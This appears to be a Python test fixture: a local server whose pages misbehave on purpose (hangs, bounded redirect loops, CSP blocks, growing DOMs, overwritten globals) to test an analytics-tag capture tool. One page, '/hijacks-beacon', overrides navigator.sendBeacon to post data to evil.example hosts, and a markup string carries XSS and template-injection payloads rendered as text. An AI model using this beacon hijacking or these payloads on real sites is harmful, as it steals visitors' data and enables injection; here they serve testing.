"""A loopback site whose pages misbehave on purpose: they hang, redirect forever, block or fake the tag,
grow without end, or carry markup as text. Every loop it serves is bounded."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlsplit

from tagprobe.capture.loopback import LoopbackServer, QuietHandler

MAX_REDIRECTS = 200
HANG_LIMIT_S = 60
"""A request that never gets an answer is released at the latest when the site stops, or after this long."""

PLAIN = """<!doctype html><html><head><title>Hostile site</title></head><body>
<h1>Hostile test site</h1><button id="go">Go</button> <a id="next" href="/other">next page</a>
<p id="out"></p><script>document.getElementById("go").onclick = () => { out.textContent = "clicked"; };</script>
</body></html>"""

SITE_SNIPPET = """(function(c,l,a,r,i,t,y){c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};
t=l.createElement(r);t.async=1;t.src="https://www.clarity.ms/tag/"+i;y=l.getElementsByTagName(r)[0];
y.parentNode.insertBefore(t,y);})(window, document, "clarity", "script", "hostile01");"""

MARKUP_TEXT = (
    """<script>alert("pwned")</script> </textarea> ]]> {{7*7}} ${7*7} <img src=x onerror=alert(1)>"""
)


BIG_UPLOAD_MARKER = """<script>
const sendUpload = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  if (body && (body.byteLength || body.length || 0) > 100000 && !document.getElementById("big-upload-sent")) {
    const mark = document.createElement("p");
    mark.id = "big-upload-sent";
    mark.textContent = "a big upload went out";
    document.body.prepend(mark);
  }
  return sendUpload.apply(this, arguments);
};
</script>"""
"""Shows #big-upload-sent once the page has sent more than 100 kB in one XHR: a scenario can wait for the
upload that carries a big DOM, which a count of uploads cannot tell from the small ones before it."""


def _js_string(text: str) -> str:
    """A JS string literal that cannot close the <script> element it sits in."""
    return json.dumps(text).replace("</", "<\\/")


def page(body: str, head: str = "") -> str:
    return f"<!doctype html><html><head><title>Hostile</title>{head}</head><body>{body}</body></html>"


@dataclass(frozen=True, slots=True)
class Answer:
    body: str
    status: int = 200
    headers: tuple[tuple[str, str], ...] = ()


def _pages() -> dict[str, Callable[[dict[str, list[str]]], Answer]]:
    def redirect_loop(query: dict[str, list[str]]) -> Answer:
        hop = int(query.get("n", ["0"])[0])
        if hop >= MAX_REDIRECTS:
            return Answer(PLAIN)
        return Answer("", 302, (("Location", f"/redirect-loop?n={hop + 1}"),))

    def script_redirect_loop(query: dict[str, list[str]]) -> Answer:
        hop = int(query.get("n", ["0"])[0])
        if hop >= MAX_REDIRECTS:
            return Answer(PLAIN)
        script = (
            f"<script>setTimeout(() => location.replace('/script-redirect-loop?n={hop + 1}'), 30)</script>"
        )
        return Answer(page(f"<p>hop {hop}</p><button id='go'>Go</button>{script}"))

    def big_dom(query: dict[str, list[str]]) -> Answer:
        count = min(int(query.get("n", ["20000"])[0]), 200_000)
        rows = "".join(f"<div class='row' data-i='{i}'><span>row {i}</span></div>" for i in range(count))
        return Answer(page(f"<button id='go'>Go</button>{rows}", BIG_UPLOAD_MARKER))

    return {
        "/": lambda query: Answer(PLAIN),
        "/other": lambda query: Answer(PLAIN.replace("Hostile test site", "Other page")),
        "/never-loads": lambda query: Answer(page("<p>almost</p><img src='/never-answers'>")),
        "/redirect-loop": redirect_loop,
        "/script-redirect-loop": script_redirect_loop,
        "/csp-blocks-tag": lambda query: Answer(
            PLAIN, headers=(("Content-Security-Policy", "script-src 'self' 'unsafe-inline'"),)
        ),
        "/csp-blocks-upload": lambda query: Answer(
            PLAIN, headers=(("Content-Security-Policy", "connect-src 'self'"),)
        ),
        "/csp-allows-clarity": lambda query: Answer(
            PLAIN,
            headers=(
                (
                    "Content-Security-Policy",
                    "default-src 'self'; script-src 'self' 'unsafe-inline' https://www.clarity.ms "
                    "https://scripts.clarity.ms; connect-src 'self' https://*.clarity.ms",
                ),
            ),
        ),
        "/gpc": lambda query: Answer(
            PLAIN.replace(
                "<head>",
                "<head><script>Object.defineProperty(Navigator.prototype, 'globalPrivacyControl', "
                "{get: () => true});</script>",
            )
        ),
        "/error-before-tag": lambda query: Answer(
            page("<button id='go'>Go</button>", f"<script>window.siteConfig.init();\n{SITE_SNIPPET}</script>")
        ),
        "/late-stylesheet": lambda query: Answer(
            page(
                "<button id='go'>Go</button><p id='out'></p><script>document.getElementById('go').onclick = () => {"
                " const link = document.createElement('link'); link.rel = 'stylesheet';"
                " link.href = '/never-ending.css'; document.head.append(link); out.textContent = 'styled'; };"
                "</script>"
            )
        ),
        "/big-dom": big_dom,
        # Its pagehide handler, registered before the tag's, takes 1.5 s: the tag's own handler (the last
        # beacon) runs as late as it does on a machine too loaded to run it within Chromium's ~500 ms.
        "/slow-to-leave": lambda query: Answer(
            PLAIN.replace(
                "<head>",
                "<head><script>addEventListener('pagehide', () => {"
                " const end = performance.now() + 1500; while (performance.now() < end) {} });</script>",
            )
        ),
        "/asks-before-leaving": lambda query: Answer(
            PLAIN.replace(
                "<head>",
                "<head><script>addEventListener('beforeunload', (event) => {"
                " event.preventDefault(); event.returnValue = ''; });</script>",
            )
        ),
        "/mutating": lambda query: Answer(
            page(
                "<button id='go'>Go</button><ul id='list'></ul>",
                """<script>
let tick = 0;
setInterval(() => {
  const list = document.getElementById("list");
  if (!list) return;
  const item = document.createElement("li");
  item.textContent = "tick " + (tick++) + " " + Math.random();
  list.prepend(item);
  while (list.children.length > 200) list.lastChild.remove();
  document.title = "tick " + tick;
}, 4);
</script>""",
            )
        ),
        "/overwrites-clarity": lambda query: Answer(
            page(
                "<button id='go'>Go</button>",
                "<script>window.clarity = {name: 'not the Clarity tag'};</script>",
            )
        ),
        "/overwrites-clarity-later": lambda query: Answer(
            page(
                "<button id='go'>Go</button>",
                "<script>addEventListener('load', () => setTimeout(() => { window.clarity = () => 'fake'; }, 300));</script>",
            )
        ),
        "/overwrites-history": lambda query: Answer(
            page(
                "<button id='go'>Go</button>",
                """<script>
const nativePush = History.prototype.pushState;
addEventListener("load", () => setTimeout(() => {
  history.pushState = function (state, title, url) { return nativePush.call(history, state, title, url); };
  history.replaceState = () => { throw new Error("replaceState is disabled on this site"); };
}, 200));
</script>""",
            )
        ),
        "/hijacks-beacon": lambda query: Answer(
            page(
                "<button id='go'>Go</button>",
                """<script>
navigator.sendBeacon = function (url, data) {
  fetch("http://evil.example/steal", {method: "POST", body: data, mode: "no-cors"}).catch(() => {});
  fetch("https://collector.evil.example/steal", {method: "POST", body: data, mode: "no-cors"}).catch(() => {});
  return true;
};
</script>""",
            )
        ),
        "/logs-non-stop": lambda query: Answer(
            page(
                "<button id='go'>Go</button>",
                "<script>setInterval(() => { for (let i = 0; i < 50; i++) console.log('log line ' + i); }, 10);</script>",
            )
        ),
        "/markup": lambda query: Answer(
            page(
                f"<h1 id='title'></h1><p id='text'></p><input id='field'><button id='go'>Go</button>"
                f"<script>const markup = {_js_string(MARKUP_TEXT)};"
                "document.getElementById('title').textContent = markup;"
                "document.getElementById('text').textContent = markup;"
                "document.getElementById('field').value = markup;"
                "document.title = markup; console.log(markup);</script>"
            )
        ),
    }


@dataclass
class SiteHooks:
    """What the test wants done when a page asks for `/kill-browser` (a crash the test causes on cue)."""

    kill_browser: Callable[[], None] = field(default=lambda: None)


class HostileSite(LoopbackServer):
    def __init__(self) -> None:
        self.hooks = SiteHooks()
        self._stopping = threading.Event()
        self._pages = _pages()
        super().__init__(self._make_handler())

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def stop(self) -> None:
        self._stopping.set()
        super().stop()

    def _make_handler(self) -> type[QuietHandler]:
        site = self

        class HostileHandler(QuietHandler):
            def do_GET(self) -> None:
                parts = urlsplit(self.path)
                if parts.path == "/never-answers":
                    site._stopping.wait(HANG_LIMIT_S)
                    self.close_connection = True
                    return
                if parts.path == "/never-ending.css":
                    self.send_response(200)
                    self.send_header("Content-Type", "text/css")
                    self.end_headers()
                    self.wfile.write(b"h1 { color: rgb(200, 0, 0); }\n")
                    self.wfile.flush()
                    site._stopping.wait(HANG_LIMIT_S)
                    self.close_connection = True
                    return
                if parts.path == "/kill-browser":
                    site.hooks.kill_browser()
                    site._stopping.wait(HANG_LIMIT_S)
                    self.close_connection = True
                    return
                render = site._pages.get(parts.path)
                answer = render(parse_qs(parts.query)) if render else Answer("not here", 404)
                body = answer.body.encode("utf-8")
                self.send_response(answer.status)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Cache-Control", "no-store")
                for name, value in answer.headers:
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        return HostileHandler
